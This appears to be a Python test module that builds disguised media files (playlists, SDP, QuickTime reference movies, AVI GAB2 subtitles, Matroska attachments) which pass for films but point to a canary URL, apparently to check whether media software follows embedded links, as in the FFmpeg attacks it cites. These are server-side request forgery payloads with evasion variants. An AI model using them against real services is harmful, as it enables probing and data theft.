"""Files that pass for films and lead elsewhere: lists, descriptions of sessions, films with links inside."""

from __future__ import annotations

import struct
from collections.abc import Iterator

__all__ = ["disguised", "films_with_links", "lists"]

#: Those that players read in that, too.
_IN_UTF_16 = ("hls", "hls-master", "dash", "smooth")
SUFFIXES = ("mp4", "mkv", "ts", "avi", "mov", "webm", "mp3")
_TEXTS = {
    "hls": "#EXTM3U\n#EXT-X-TARGETDURATION:10\n#EXTINF:10,\n{url}\n#EXT-X-ENDLIST\n",
    "hls-master": "#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\n{url}\n",
    "hls-key": '#EXTM3U\n#EXT-X-KEY:METHOD=AES-128,URI="{url}"\n#EXTINF:1,\nx.ts\n',
    "hls-map": '#EXTM3U\n#EXT-X-MAP:URI="{url}"\n#EXTINF:1,\nx.m4s\n',
    "hls-media": '#EXTM3U\n#EXT-X-MEDIA:TYPE=AUDIO,GROUP-ID="a",NAME="a",URI="{url}"\n',
    "m3u": "{url}\n{url}\n",
    "m3u-comment": "# a film\n{url}\n",
    "extvlcopt": "#EXTM3U\n#EXTVLCOPT:sout=#standard{{access=http,dst={host}}}\n{url}\n",
    "pls": "[playlist]\nFile1={url}\nNumberOfEntries=1\nVersion=2\n",
    "reference": "[Reference]\nRef1={url}\n",
    "asx": '<asx version="3.0"><entry><ref href="{url}"/></entry></asx>',
    "asf-url": "ASF {url}\n",
    "xspf": '<?xml version="1.0"?><playlist version="1" xmlns="http://xspf.org/ns/0/"><trackList><track>'
    "<location>{url}</location></track></trackList></playlist>",
    "smil": '<smil><body><video src="{url}"/></body></smil>',
    "wpl": '<?wpl version="1.0"?><smil><body><seq><media src="{url}"/></seq></body></smil>',
    "dash": '<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011"><Period><BaseURL>{url}</BaseURL>'
    "</Period></MPD>",
    "smooth": '<SmoothStreamingMedia MajorVersion="2"><StreamIndex Url="{url}"/></SmoothStreamingMedia>',
    "sdp": "v=0\r\no=- 0 0 IN IP4 {host}\r\ns=x\r\nc=IN IP4 {host}\r\nt=0 0\r\nm=video {port} RTP/AVP 33\r\n",
    "ffconcat": "ffconcat version 1.0\nfile '{url}'\n",
    "concat": "file '{url}'\nduration 1\n",
    "quicktime": '<?xml version="1.0"?><?quicktime type="application/x-quicktime-media-link"?>'
    '<embed src="{url}"/>',
    "rtsptext": "RTSPtext\nrtsp://{host}:{port}/x\n",
    "ram": "rtsp://{host}:{port}/x\n{url}\n",
    "strm": "{url}",
    "shortcut": "[InternetShortcut]\nURL={url}\n",
    "rss": '<?xml version="1.0"?><rss><channel><item><enclosure url="{url}"/></item></channel></rss>',
    "itunes": '<?xml version="1.0"?><plist version="1.0"><dict><key>Location</key><string>{url}</string>'
    "</dict></plist>",
    "b4s": '<?xml version="1.0"?><WinampXML><playlist><entry Playstring="{url}"/></playlist></WinampXML>',
    "gvp": "# download the free Google Video Player\ngvp_version:1.1\nurl:{url}\n",
    "cue": 'FILE "{url}" WAVE\nTRACK 01 AUDIO\nINDEX 01 00:00:00\n',
}


def lists(host: str, port: int) -> Iterator[tuple[str, bytes]]:
    """Names of films, and what is no film; each in several dresses."""
    url = f"http://{host}:{port}/canary"
    for number, (kind, text) in enumerate(_TEXTS.items()):
        plain = text.format(url=url, host=host, port=port).encode()
        dresses = {
            "plain": plain,
            "mark": b"\xef\xbb\xbf" + plain,
            "blanks": b"\n \t\r\n" + plain,
            "long": plain + b"\n" + b"#" * 6000,
            "wide": plain.decode().encode("utf-16") if kind in _IN_UTF_16 else plain,
            "returns": plain.replace(b"\n", b"\r\n"),
            "tagged": b"ID3\4\0\0\0\0\0\0" + plain,
        }
        for place, (dress, content) in enumerate(dresses.items()):
            yield f"{kind}-{dress}.{SUFFIXES[(number + place) % len(SUFFIXES)]}", content


def films_with_links(host: str, port: int) -> Iterator[tuple[str, bytes]]:
    """What begins as films do, and has a link inside."""
    url = f"http://{host}:{port}/canary".encode()
    hls = b"#EXTM3U\n#EXTINF:1,\n" + url + b"\n#EXT-X-ENDLIST\n"
    yield "reference.mov", _box(b"ftyp", b"qt  \0\0\0\0qt  ") + _box(b"moov", _reference(url))
    yield (
        "reference-late.mov",
        _box(b"ftyp", b"qt  \0\0\0\0qt  ") + _box(b"free", bytes(8000)) + _box(b"moov", _reference(url)),
    )
    yield "dref.mp4", _box(b"ftyp", b"isom\0\0\0\0isom") + _box(b"moov", _external(url))
    for late, padding in (("", b""), ("-late", bytes(8000))):
        yield f"gab2{late}.avi", _avi(padding, hls)
        yield f"attached{late}.mkv", _matroska(padding, hls)


def disguised(host: str, port: int) -> list[tuple[str, bytes]]:
    """All of them."""
    return [*lists(host, port), *films_with_links(host, port)]


def _box(kind: bytes, content: bytes) -> bytes:
    return struct.pack(">I", len(content) + 8) + kind + content


def _reference(url: bytes) -> bytes:
    """A reference movie of QuickTime: the film is elsewhere."""
    link = bytes(4) + b"url " + struct.pack(">I", len(url) + 1) + url + b"\0"
    return _box(b"rmra", _box(b"rmda", _box(b"rdrf", link)))


def _external(url: bytes) -> bytes:
    """A track whose bytes are elsewhere."""
    link = _box(b"url ", bytes(4) + url + b"\0")
    data = _box(b"dinf", _box(b"dref", bytes(4) + struct.pack(">I", 1) + link))
    entry = _box(b"mp4v", bytes(6) + b"\0\1" + bytes(16) + struct.pack(">HH", 16, 16) + bytes(50))
    times = _box(b"stsd", bytes(4) + struct.pack(">I", 1) + entry)
    times += _box(b"stts", bytes(4) + struct.pack(">III", 1, 1, 1000))
    times += _box(b"stsc", bytes(4) + struct.pack(">IIII", 1, 1, 1, 1))
    times += _box(b"stsz", bytes(4) + struct.pack(">II", 100, 1))
    times += _box(b"stco", bytes(4) + struct.pack(">II", 1, 0))
    media = _box(b"mdhd", bytes(12) + struct.pack(">II", 1000, 1000) + bytes(4))
    media += _box(b"hdlr", bytes(8) + b"vide" + bytes(13))
    media += _box(b"minf", _box(b"vmhd", bytes(12)) + data + _box(b"stbl", times))
    head = _box(b"mvhd", bytes(12) + struct.pack(">II", 1000, 1000) + bytes(80))
    return head + _box(b"trak", _box(b"tkhd", b"\0\0\0\7" + bytes(80)) + _box(b"mdia", media))


def _avi(before: bytes, subtitle: bytes) -> bytes:
    """Subtitles inside a film, which are none (as in the attacks on FFmpeg of 2016 and 2017)."""
    gab2 = b"GAB2\0" + struct.pack("<HI", 2, 0) + struct.pack("<HI", 4, len(subtitle)) + subtitle
    stream = b"txts" + bytes(44)
    header = b"LIST" + _sized(b"strl" + b"strh" + _sized(stream + bytes(8)) + b"strf" + _sized(b""))
    top = b"LIST" + _sized(b"hdrl" + b"avih" + _sized(bytes(24) + struct.pack("<I", 1) + bytes(28)) + header)
    return b"RIFF" + _sized(
        b"AVI " + top + b"JUNK" + _sized(before) + b"LIST" + _sized(b"movi" + b"00tx" + _sized(gab2))
    )


def _sized(content: bytes) -> bytes:
    return struct.pack("<I", len(content)) + content + bytes(len(content) % 2)


def _matroska(before: bytes, attachment: bytes) -> bytes:
    """A list among the attachments of a film."""
    file = _element(b"\x46\x6e", b"list.m3u8") + _element(b"\x46\x60", b"application/x-mpegurl")
    attached = _element(b"\x19\x41\xa4\x69", _element(b"\x61\xa7", file + _element(b"\x46\x5c", attachment)))
    info = _element(b"\x15\x49\xa9\x66", _element(b"\x2a\xd7\xb1", b"\x0f\x42\x40"))
    head = _element(b"\x1a\x45\xdf\xa3", _element(b"\x42\x82", b"matroska"))
    return head + _element(b"\x18\x53\x80\x67", info + _element(b"\xec", before) + attached)


def _element(number: bytes, content: bytes) -> bytes:
    return number + struct.pack(">Q", 1 << 56 | len(content)) + content
